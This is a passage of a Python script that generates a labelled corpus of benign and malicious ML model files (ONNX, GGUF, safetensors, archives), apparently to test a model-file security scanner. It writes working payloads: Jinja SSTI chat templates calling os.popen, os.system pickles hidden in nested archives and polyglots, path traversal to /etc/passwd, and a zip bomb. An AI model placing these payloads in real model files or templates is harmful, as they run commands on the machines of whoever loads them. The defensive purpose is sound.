            external(name, tensor)
        inits.append(tensor)
    nodes = [helper.make_node("Gemm", ["input", "fc1.weight", "fc1.bias"], ["/fc1/Gemm_output_0"], name="/fc1/Gemm",
                              alpha=1.0, beta=1.0, transB=1),
             helper.make_node("Relu", ["/fc1/Gemm_output_0"], ["/relu/Relu_output_0"], name="/relu/Relu"),
             helper.make_node("Gemm", ["/relu/Relu_output_0", "fc2.weight", "fc2.bias"], ["logits"], name="/fc2/Gemm",
                              alpha=1.0, beta=1.0, transB=1),
             helper.make_node("Softmax", ["logits"], ["output"], name="/softmax/Softmax", axis=1),
             *extra_nodes]
    graph = helper.make_graph(nodes, "main_graph",
                              [helper.make_tensor_value_info("input", TensorProto.FLOAT, ["batch", 8])],
                              [helper.make_tensor_value_info(output, TensorProto.FLOAT, ["batch", 3])],
                              initializer=inits)
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17), *extra_opsets],
                              producer_name="pytorch", producer_version="2.3.0", ir_version=8)
    return model.SerializeToString()


def set_external(tensor, location, offset, length):
    from onnx import TensorProto

    tensor.ClearField("raw_data")
    tensor.data_location = TensorProto.EXTERNAL
    for key, value in (("location", location), ("offset", str(offset)), ("length", str(length))):
        entry = tensor.external_data.add()
        entry.key, entry.value = key, value


def gen_onnx(c):
    from onnx import helper

    c.add("benign", "onnx", "mlp.onnx", onnx_mlp("mlp"), "ONNX MLP: Gemm/Relu/Softmax with initializers")
    weights = bytearray()

    def to_weights_bin(name, tensor):
        raw = tensor.raw_data
        set_external(tensor, "weights.bin", len(weights), len(raw))
        weights.extend(raw)

    model = onnx_mlp("external", external=to_weights_bin)
    c.add_dir("benign", "onnx", "mlp_external_data", {"model.onnx": model, "weights.bin": bytes(weights)},
              "ONNX MLP whose initializers live in weights.bin beside it")

    def hostile_location(location):
        def move(name, tensor):
            if name == "fc1.weight":
                set_external(tensor, location, 0, len(tensor.raw_data))
        return move

    c.add("malicious", "onnx", "external_data_traversal.onnx",
          onnx_mlp("traversal", external=hostile_location("../../../../etc/passwd")),
          "external data location ../../../../etc/passwd (path traversal)")
    c.add("malicious", "onnx", "external_data_absolute.onnx",
          onnx_mlp("absolute", external=hostile_location("/etc/shadow")), "external data at absolute path /etc/shadow")
    custom = helper.make_node("RunShell", ["output"], ["checked"], name="/evil/RunShell", domain="evil.custom",
                              command=CMD)
    # A custom domain needs a native op library registered by the loader: suspicious, not proof.
    c.add("suspicious", "onnx", "custom_domain_op.onnx",
          onnx_mlp("custom", extra_nodes=[custom], extra_opsets=[helper.make_opsetid("evil.custom", 1)], output="checked"),
          "node in custom domain evil.custom (with opset import) needing a native custom-op library")
    python_op = helper.make_node("PythonOp", ["output"], ["py_out"], name="/PythonOp", domain="com.microsoft",
                                 func_name="__main__.Payload", input_convention="d", output_tensor_types=[1],
                                 output_tensor_ranks=[2])
    c.add("malicious", "onnx", "com_microsoft_pythonop.onnx",
          onnx_mlp("pythonop", extra_nodes=[python_op], extra_opsets=[helper.make_opsetid("com.microsoft", 1)],
                   output="py_out"),
          "com.microsoft PythonOp node (runs a Python autograd function)")


# --------------------------------------------------------------------------------------------
# GGUF

LLAMA3_TEMPLATE = (
    "{% set loop_messages = messages %}{% for message in loop_messages %}"
    "{% set content = '<|start_header_id|>' + message['role'] + '<|end_header_id|>\n\n'+ message['content'] | trim"
    " + '<|eot_id|>' %}{% if loop.index0 == 0 %}{% set content = bos_token + content %}{% endif %}{{ content }}"
    "{% endfor %}{% if add_generation_prompt %}{{ '<|start_header_id|>assistant<|end_header_id|>\n\n' }}{% endif %}"
)
TOOLS_TEMPLATE = (
    "{%- if tools %}{{- '<|im_start|>system\n' }}{%- if messages[0]['role'] == 'system' %}{{- messages[0]['content'] }}"
    "{%- else %}{{- 'You are a helpful assistant.' }}{%- endif %}{{- '\n\n# Tools\n\n<tools>' }}"
    "{%- for tool in tools %}{{- '\n' }}{{- tool | tojson }}{%- endfor %}{{- '\n</tools><|im_end|>\n' }}{%- endif %}"
    "{%- set ns = namespace(first=true) %}{%- for message in messages %}"
    "{%- if message.role not in ['system', 'user', 'assistant', 'tool'] %}{{ raise_exception('bad role') }}{%- endif %}"
    "{{- '<|im_start|>' + message.role + '\n' + message.content + '<|im_end|>\n' }}{%- set ns.first = false %}"
    "{%- endfor %}{%- if add_generation_prompt %}{{- '<|im_start|>assistant\n' }}{%- endif %}"
)
SSTI_TEMPLATES = {
    "ssti_subclasses": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "ssti_cycler_globals": "{{ cycler.__init__.__globals__.os.popen('" + CMD + "').read() }}",
    "ssti_template_reference": "{{ self._TemplateReference__context.joiner.__init__.__globals__.os.popen('"
                               + CMD + "').read() }}",
    "ssti_attr_hex_escapes": "{{ ()|attr('\\x5f\\x5fclass\\x5f\\x5f')|attr('\\x5f\\x5fbase\\x5f\\x5f')"
                             "|attr('\\x5f\\x5fsubclasses\\x5f\\x5f')() }}",
    "ssti_lipsum_globals": "{% set x = lipsum.__globals__['os'].popen('" + CMD + "').read() %}{{ x }}",
}
TOKENS = ["<|begin_of_text|>", "<|end_of_text|>", "<|start_header_id|>", "<|end_header_id|>", "<|eot_id|>",
          "hello", "world", "model", "scan", "the", "a", "is", "safe", ".", ",", " "]


def gguf_with_writer(tag, template):
    import gguf

    r = rng("gguf/" + tag)
    with tempfile.TemporaryDirectory() as tmp:
        path = os.path.join(tmp, "model.gguf")
        w = gguf.GGUFWriter(path, "llama")
        w.add_name("warden-corpus-tiny-llama")
        w.add_context_length(2048)
        w.add_embedding_length(8)
        w.add_block_count(1)
        w.add_feed_forward_length(16)
        w.add_head_count(2)
        w.add_head_count_kv(2)
        w.add_layer_norm_rms_eps(1e-5)
        w.add_rope_freq_base(500000.0)
        w.add_file_type(0)
        w.add_tokenizer_model("gpt2")
        w.add_tokenizer_pre("llama-bpe")
        w.add_token_list(TOKENS)
        w.add_token_types([3] * 5 + [1] * 11)
        w.add_bos_token_id(0)
        w.add_eos_token_id(4)
        w.add_chat_template(template)
        w.add_tensor("token_embd.weight", r.standard_normal((16, 8)).astype(np.float32))
        w.add_tensor("output_norm.weight", np.ones(8, dtype=np.float32))
        w.write_header_to_file()
        w.write_kv_data_to_file()
        w.write_tensors_to_file()
        w.close()
        with open(path, "rb") as f:
            return f.read()


GGUF_U32, GGUF_STRING, GGUF_ARRAY = 4, 8, 9


def gguf_str(s):
    raw = s.encode()
    return struct.pack("<Q", len(raw)) + raw


def gguf_raw(kvs, tensors, data, kv_count=None, tensor_count=None):
    """GGUF v3 by hand: kvs are (key, type, encoded value); tensors (name, dims, ggml type, offset)."""
    out = b"GGUF" + struct.pack("<IQQ", 3, len(tensors) if tensor_count is None else tensor_count,
                                len(kvs) if kv_count is None else kv_count)
    for key, vtype, value in kvs:
        out += gguf_str(key) + struct.pack("<I", vtype) + value
    for name, dims, ttype, offset in tensors:
        out += gguf_str(name) + struct.pack("<I", len(dims)) + b"".join(struct.pack("<Q", d) for d in dims)
        out += struct.pack("<IQ", ttype, offset)
    out += b"\x00" * (-len(out) % 32)
    return out + data


def gen_gguf(c):
    c.add("benign", "gguf", "tiny_llama3.gguf", gguf_with_writer("llama3", LLAMA3_TEMPLATE),
          "GGUF llama with a Llama-3 chat template and F32 tensors")
    c.add("benign", "gguf", "tiny_tools_template.gguf", gguf_with_writer("tools", TOOLS_TEMPLATE),
          "GGUF with a ChatML tool-calling template (namespace, tojson, raise_exception)")
    for name, ssti in SSTI_TEMPLATES.items():
        template = LLAMA3_TEMPLATE.replace("{{ content }}", "{{ content }}" + ssti, 1)
        c.add("malicious", "gguf", f"{name}.gguf", gguf_with_writer(name, template),
              f"GGUF chat template with Jinja SSTI: {ssti[:70]}")

    tensor_data = rng("gguf-malformed").standard_normal(128).astype("<f4").tobytes()
    arch = ("general.architecture", GGUF_STRING, gguf_str("llama"))
    name = ("general.name", GGUF_STRING, gguf_str("malformed"))
    tensor = ("token_embd.weight", [8, 16], 0, 0)
    c.add("malicious", "gguf", "tensor_offset_beyond_file.gguf",
          gguf_raw([arch, name], [("token_embd.weight", [8, 16], 0, 1 << 40)], tensor_data),
          "malformed GGUF: tensor data offset far beyond the end of the file")
    c.add("malicious", "gguf", "absurd_metadata_count.gguf",
          gguf_raw([arch, name], [tensor], tensor_data, kv_count=1 << 62),
          "malformed GGUF: metadata kv count 2^62")
    c.add("malicious", "gguf", "absurd_tensor_count.gguf",
          gguf_raw([arch, name], [tensor], tensor_data, tensor_count=1 << 61),
          "malformed GGUF: tensor count 2^61")
    huge_string = ("general.name", GGUF_STRING, struct.pack("<Q", 1 << 60) + b"malformed")
    c.add("malicious", "gguf", "absurd_string_length.gguf", gguf_raw([arch, huge_string], [tensor], tensor_data),
          "malformed GGUF: metadata string length 2^60")
    huge_array = ("tokenizer.ggml.tokens", GGUF_ARRAY, struct.pack("<IQ", GGUF_STRING, 1 << 61) + gguf_str("hello"))
    c.add("malicious", "gguf", "absurd_array_length.gguf", gguf_raw([arch, huge_array], [tensor], tensor_data),
          "malformed GGUF: string array length 2^61")


# --------------------------------------------------------------------------------------------
# safetensors


def safetensors_raw(header, data, declared=None):
    """safetensors by hand: u64 header length, JSON header padded with spaces, data."""
    text = header if isinstance(header, (str, bytes)) else json.dumps(header, separators=(",", ":"))
    raw = text.encode() if isinstance(text, str) else text
    raw += b" " * (-len(raw) % 8)
    return struct.pack("<Q", len(raw) if declared is None else declared) + raw + data


def benign_safetensors(tag, metadata=None):
    from safetensors.numpy import save

    r = rng("st/" + tag)
    tensors = {"embed.weight": r.standard_normal((16, 8)).astype(np.float32),
               "norm.weight": np.ones(8, dtype=np.float16), "position_ids": np.arange(16, dtype=np.int64)}
    data = save(tensors, metadata=metadata)
    # The library writes __metadata__ from a Rust HashMap, in an order that changes from run to
    # run: re-emit the same header with its metadata keys sorted.
    (n,) = struct.unpack("<Q", data[:8])
    header = json.loads(data[8:8 + n])
    if "__metadata__" in header:
        header["__metadata__"] = dict(sorted(header["__metadata__"].items()))
    return safetensors_raw(header, data[8 + n:])


def gen_safetensors(c):
    c.add("benign", "safetensors", "model.safetensors", benign_safetensors("model", {"format": "pt", "source": "corpus"}),
          "safetensors (F32/F16/I64) with string metadata")
    c.add("benign", "safetensors", "adapter_model.safetensors", benign_safetensors("adapter"),
          "safetensors without metadata")
    c.add("benign", "safetensors", "weights_named.bin", benign_safetensors("bin", {"format": "np"}),
          "safetensors named .bin")
    data = rng("st-malformed").standard_normal(16).astype("<f4").tobytes()  # 64 bytes
    good = {"a": {"dtype": "F32", "shape": [4, 4], "data_offsets": [0, 64]}}
    mal = lambda name, blob, technique: c.add("malicious", "safetensors", name, blob, technique)  # noqa: E731
    mal("header_len_beyond_file.safetensors", safetensors_raw(good, data, declared=100_000),
        "malformed safetensors: header length beyond the file size")
    mal("header_len_over_100mb.safetensors", safetensors_raw(good, data, declared=200_000_000),
        "malformed safetensors: declared header length over 100 MB")
    mal("invalid_json.safetensors", safetensors_raw('{"a":{"dtype":"F32","shape":[4,4],"data_offsets":[0,64]', data),
        "malformed safetensors: header is not valid JSON")
    mal("overlapping_offsets.safetensors", safetensors_raw(
        {"a": {"dtype": "F32", "shape": [2, 4], "data_offsets": [0, 32]},
         "b": {"dtype": "F32", "shape": [2, 4], "data_offsets": [16, 48]},
         "c": {"dtype": "F32", "shape": [4], "data_offsets": [48, 64]}}, data),
        "malformed safetensors: overlapping data_offsets")
    mal("offsets_out_of_bounds.safetensors", safetensors_raw(
        {"a": {"dtype": "F32", "shape": [32, 32], "data_offsets": [0, 4096]}}, data),
        "malformed safetensors: data_offsets beyond the data section")
    mal("shape_size_mismatch.safetensors", safetensors_raw(
        {"a": {"dtype": "F32", "shape": [64, 64], "data_offsets": [0, 64]}}, data),
        "malformed safetensors: shape needs 16384 bytes, offsets give 64")
    # safetensors adds dtypes over time, so an unknown one is for review rather than proof of attack.
    c.add("suspicious", "safetensors", "unknown_dtype.safetensors", safetensors_raw(
        {"a": {"dtype": "F128", "shape": [4], "data_offsets": [0, 64]}}, data), "malformed safetensors: unknown dtype F128")
    mal("duplicate_keys.safetensors", safetensors_raw(
        '{"a":{"dtype":"F32","shape":[4],"data_offsets":[0,16]},'
        '"a":{"dtype":"F32","shape":[4,4],"data_offsets":[0,64]}}', data),
        "malformed safetensors: duplicate tensor name in the header (parser differential)")
    mal("non_string_metadata.safetensors", safetensors_raw(
        {"__metadata__": {"format": "pt", "epochs": 3, "extra": {"nested": [1, 2]}}, **good}, data),
        "malformed safetensors: __metadata__ values that are not strings")


# --------------------------------------------------------------------------------------------
# Archives


def hf_model_dir():
    config = {"architectures": ["LlamaForCausalLM"], "hidden_size": 8, "num_hidden_layers": 1,
              "num_attention_heads": 2, "vocab_size": 16, "torch_dtype": "float32", "model_type": "llama"}
    return [("tiny-model/config.json", json.dumps(config, indent=2).encode()),
            ("tiny-model/generation_config.json", b'{"bos_token_id": 0, "eos_token_id": 4}'),
            ("tiny-model/model.safetensors", benign_safetensors("archive", {"format": "pt"})),
            ("tiny-model/tokenizer_config.json", json.dumps({"chat_template": LLAMA3_TEMPLATE}).encode())]


def zip_bomb(size=200 * 1024 * 1024):
    """A single deflated member of `size` zero bytes (~1000:1), kept small on disk."""
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    chunk = b"\x00" * (1 << 20)
    crc, parts = 0, []
    for _ in range(size // len(chunk)):
        crc = zlib.crc32(chunk, crc)
        parts.append(comp.compress(chunk))
    parts.append(comp.flush())
    return raw_zip([{"name": "weights.bin", "compressed": b"".join(parts), "size": size, "crc": crc, "method": 8}])


def gen_archives(c):
    payload = os_system_pickle(2)
    mal = lambda name, blob, technique: c.add("malicious", "archive", name, blob, technique)  # noqa: E731
    ben = lambda name, blob, technique: c.add("benign", "archive", name, blob, technique)  # noqa: E731
    inner = [("model/config.json", b'{"model_type": "mlp"}'), ("model/model.pkl", payload)]

    mal("pickle_deflate.zip", zip_bytes(inner, zipfile.ZIP_DEFLATED), "os.system pickle inside a deflate zip")
    mal("pickle_bzip2.zip", zip_bytes(inner, zipfile.ZIP_BZIP2), "os.system pickle inside a bzip2-method zip")
    mal("pickle_lzma.zip", zip_bytes(inner, zipfile.ZIP_LZMA), "os.system pickle inside an lzma-method zip")
    plain_tar = tar_bytes(inner)
    mal("pickle.tar", plain_tar, "os.system pickle inside a tar")
    mal("pickle.tar.gz", gz(plain_tar), "os.system pickle inside a tar.gz")
    mal("pickle.tar.bz2", bz2.compress(plain_tar, 9), "os.system pickle inside a tar.bz2")
    mal("pickle.tar.xz", xz(plain_tar), "os.system pickle inside a tar.xz")
    mal("model.pkl.zst", zst(payload), "os.system pickle compressed with zstd")
    mal("pickle.tar.zst", zst(plain_tar), "os.system pickle inside a tar.zst")
    mal("model.pkl.gz", gz(payload), "os.system pickle compressed with gzip")
    mal("pickle.7z", sevenz(inner), "os.system pickle inside a 7z archive")
    innermost = zip_bytes([("payload/model.pkl", payload)])
    middle = gz(tar_bytes([("bundle/inner.zip", innermost)]))
    mal("nested_zip_targz_zip.zip", zip_bytes([("release/bundle.tar.gz", middle)]),
        "os.system pickle in a zip inside a tar.gz inside a zip")
    mal("name_mismatch_central_bin.zip",
        raw_zip([{"local_name": "data.pkl", "central_name": "weights.bin", "data": payload}]),
        "zip whose central directory says weights.bin and local header says data.pkl (payload)")
    mal("name_mismatch_central_pkl.zip",
        raw_zip([{"local_name": "weights.bin", "central_name": "data.pkl", "data": payload}]),
        "zip whose central directory says data.pkl and local header says weights.bin (payload)")
    mal("encrypted_flag_plain_entry.zip",
        raw_zip([{"name": "config.json", "data": b"{}"}, {"name": "model.pkl", "data": payload, "flags": 1}]),
        "zip entry with the encrypted flag set but stored in plain text (payload)")
    mal("duplicate_names.zip",
        raw_zip([{"name": "archive/data.pkl", "data": pickle.dumps({"weights": [0.5]}, protocol=2)},
                 {"name": "archive/data.pkl", "data": payload}]),
        "zip with two entries named archive/data.pkl, the first benign, the second malicious")
    mal("zip_bomb.zip", zip_bomb(), "zip bomb: one member inflating to 200 MiB of zeros (ratio ~1000:1)")
    evil = {"state_dict": mlp_state_dict("polyglot"), "x": Reduce(__import__("os").system, (CMD,))}
    mal("polyglot_benign_pickle_malicious_zip.pt",
        pickle.dumps({"format": "notes", "version": 1}, protocol=2) + torch_zip(evil),
        "polyglot: a benign pickle at the start, a torch zip with a malicious data.pkl at the end")
    mal("polyglot_malicious_pickle_benign_zip.bin",
        payload + zip_bytes([("config.json", b'{"model_type": "mlp"}')]),
        "polyglot: an os.system pickle at the start, a benign zip at the end")

    model_dir = hf_model_dir()
    ben("tiny_model.tar.gz", gz(tar_bytes(model_dir)), "tar.gz of a Hugging Face style safetensors model dir")
    shards = [("model-00001-of-00002.safetensors", benign_safetensors("shard1", {"format": "pt"})),
              ("model-00002-of-00002.safetensors", benign_safetensors("shard2", {"format": "pt"})),
              ("model.safetensors.index.json", json.dumps({"metadata": {"total_size": 1024}, "weight_map": {
                  "embed.weight": "model-00001-of-00002.safetensors",
                  "norm.weight": "model-00002-of-00002.safetensors"}}).encode())]
    ben("safetensors_shards.zip", zip_bytes(shards), "zip of safetensors shards and their index")
    ben("tiny_model.7z", sevenz(model_dir), "7z of a safetensors model dir")
    ben("model.safetensors.zst", zst(benign_safetensors("zst")), "zstd-compressed safetensors")
    ben("tiny_model.tar.xz", xz(tar_bytes(model_dir)), "tar.xz of a safetensors model dir")


# --------------------------------------------------------------------------------------------


def staging_dir(root):
    """A fresh sibling directory to generate into; `publish` swaps it in only once it is complete,
    so a failed run never leaves a half-written corpus behind."""
    if os.path.exists(root) and os.listdir(root) and not os.path.exists(os.path.join(root, "manifest.json")):
        raise SystemExit(f"{root} exists, is not empty and holds no manifest.json: refusing to overwrite it")
    staging = root + ".partial"
    shutil.rmtree(staging, ignore_errors=True)
    os.makedirs(staging)
    return staging


def publish(staging, root):
    if os.path.exists(root):
        shutil.rmtree(root)
    os.rename(staging, root)


def check_coverage(c):
    """Every file written belongs to exactly one sample, so per-sample scans cover the corpus."""
    paths = [s["path"] for s in c.samples]
    for verdict in ("benign", "malicious", "suspicious"):
        for dirpath, _, files in os.walk(os.path.join(c.root, verdict)):
            for f in files:
                rel = os.path.relpath(os.path.join(dirpath, f), c.root).replace(os.sep, "/")
                owners = [p for p in paths if rel == p or rel.startswith(p + "/")]
                if len(owners) != 1:
                    raise SystemExit(f"{rel} belongs to {len(owners)} samples")


def corpus_digest(root):
    h = hashlib.sha256()
    for dirpath, dirs, files in os.walk(root):
        dirs.sort()
        for f in sorted(files):
            path = os.path.join(dirpath, f)
            h.update(os.path.relpath(path, root).replace(os.sep, "/").encode() + b"\0")
            with open(path, "rb") as fh:
                h.update(hashlib.sha256(fh.read()).digest())
    return h.hexdigest()


def main(argv):
    if len(argv) != 2 or argv[1].startswith("-"):
        print(__doc__.strip().splitlines()[0] + "\n\nusage: gen_corpus.py OUTDIR", file=sys.stderr)
        return 2
    if sys.version_info[:2] < (3, 11):
        print("gen_corpus.py needs Python 3.11 or newer (types.CodeType fields)", file=sys.stderr)
        return 2
    start = time.monotonic()
    root = os.path.abspath(argv[1])
    c = Corpus(staging_dir(root))
    for section in (gen_pickles, gen_pytorch, gen_numpy, gen_sklearn, gen_keras, gen_savedmodel, gen_onnx, gen_gguf,
                    gen_safetensors, gen_archives):
        section(c)
    check_coverage(c)
    c.write_manifest()
    digest = corpus_digest(c.root)
    publish(c.root, root)

    counts = collections.Counter((s["format"], s["verdict"]) for s in c.samples)
    size = sum(os.path.getsize(os.path.join(d, f)) for d, _, fs in os.walk(root) for f in fs)
    for fmt in sorted({f for f, _ in counts}):
        print(f"  {fmt:12} {counts[(fmt, 'malicious')]:3} malicious {counts[(fmt, 'suspicious')]:3} suspicious "
              f"{counts[(fmt, 'benign')]:3} benign", file=sys.stderr)
    by_verdict = collections.Counter(s["verdict"] for s in c.samples)
    print(f"{len(c.samples)} samples ({by_verdict['malicious']} malicious, {by_verdict['suspicious']} suspicious, "
          f"{by_verdict['benign']} benign), {size / 1e6:.1f} MB, "
          f"{time.monotonic() - start:.1f}s, digest {digest[:16]} -> {root}", file=sys.stderr)
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
